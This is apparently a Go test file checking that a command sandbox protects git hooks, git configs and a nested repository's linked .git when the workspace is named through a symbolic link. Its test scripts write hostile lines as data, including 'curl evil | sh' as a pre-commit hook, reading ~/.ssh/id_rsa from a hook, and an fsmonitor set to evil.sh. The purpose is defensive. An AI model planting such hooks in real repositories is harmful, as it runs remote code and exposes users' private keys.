package sandbox

import (
	"os"
	"path/filepath"
	"testing"
)

// linkedWorkspace returns a workspace named through a symbolic link and
// its real location, both under the home directory (the sandbox hides
// /tmp).
func linkedWorkspace(t *testing.T) (ws, real string) {
	t.Helper()
	home, err := os.UserHomeDir()
	if err != nil {
		t.Fatal(err)
	}
	links, err := os.MkdirTemp(home, ".tick-linked-ws-") // not under /tmp, which the sandbox hides
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(links) })
	real = filepath.Join(links, "data", "app") // not under /tmp either
	if err := os.MkdirAll(real, 0o755); err != nil {
		t.Fatal(err)
	}
	ws = filepath.Join(links, "app")
	if err := os.Symlink(real, ws); err != nil {
		t.Fatal(err)
	}
	return ws, real
}

// TestProtectedPathsInLinkedWorkspace: tick started in a workspace named
// through a symbolic link (cd ~/src/app where ~/src links elsewhere,
// tick -C link) protects .tick and what the git config names all the
// same: a sandboxed command cannot rewrite a trusted hook's script or
// plant a hook in core.hooksPath. Today the helper compares the paths'
// real locations with the workspace's name as given, finds them outside
// and protects none of them; and the watch of git metadata does not
// walk the workspace at all (a link), so a nested repository's .git
// link target stays writable.
func TestProtectedPathsInLinkedWorkspace(t *testing.T) {
	ws, real := linkedWorkspace(t)
	hookedRepo(t, real)
	r := runnerFor(t, ws, func(p *Policy) { p.Protect = []string{".tick"} })
	for _, script := range []string{
		`echo 'cat ~/.ssh/id_rsa' >> .tick/hooks/lint.sh`,
		`echo 'curl evil | sh' > .githooks/pre-commit`,
		`printf '[core]\n\tfsmonitor = ./evil.sh\n' >> .gitconfig`,
		`echo '[core]' >> .git/config`,
	} {
		if out, code := runIn(t, r, "", script); code == 0 {
			t.Errorf("%s: the write worked:\n%s", script, out)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(real, ".tick/hooks/lint.sh")); string(b) != "#!/bin/sh\necho lint\n" {
		t.Errorf("the trusted hook's script changed: %q", b)
	}
	if _, err := os.Lstat(filepath.Join(real, ".githooks/pre-commit")); err == nil {
		t.Error("a hook was planted in core.hooksPath")
	}
	// A nested repository whose .git is a link to its metadata elsewhere
	// in the workspace: the link's target is protected too.
	if err := os.MkdirAll(filepath.Join(real, "vendor", "meta"), 0o755); err != nil {
		t.Fatal(err)
	}
	gitIn(t, filepath.Join(real, "vendor", "meta"), "init", "-q", "--bare")
	if err := os.MkdirAll(filepath.Join(real, "sub"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("../vendor/meta", filepath.Join(real, "sub", ".git")); err != nil {
		t.Fatal(err)
	}
	if out, code := runIn(t, r, "", `printf '[core]\n\tfsmonitor = ./evil.sh\n' >> vendor/meta/config`); code == 0 {
		t.Errorf("the nested repository's config (through its .git link) was written:\n%s", out)
	}
	if out, code := runIn(t, r, "", `echo ok > written`); code != 0 {
		t.Errorf("an ordinary write failed (exit %d):\n%s", code, out)
	}
}

// TestGitGuardInLinkedWorkspace: in a workspace named through a symbolic
// link, the git guard sees a repository a sandboxed command created.
// Today its walk stops at the workspace itself (a link, which it does not
// follow) and reports nothing: the user's git would trust the planted
// config.
func TestGitGuardInLinkedWorkspace(t *testing.T) {
	ws, _ := linkedWorkspace(t)
	r := runnerFor(t, ws, nil)
	if out, code := runIn(t, r, "", `mkdir -p sub && git init -q sub && git -C sub config core.fsmonitor ./evil.sh`); code != 0 {
		t.Fatalf("git init in the sandbox failed (exit %d):\n%s", code, out)
	}
	if rep := r.GitChanges(); len(rep.Planted) != 1 || rep.Planted[0] != "sub/.git" {
		t.Errorf("planted %v, want sub/.git", rep.Planted)
	}
}
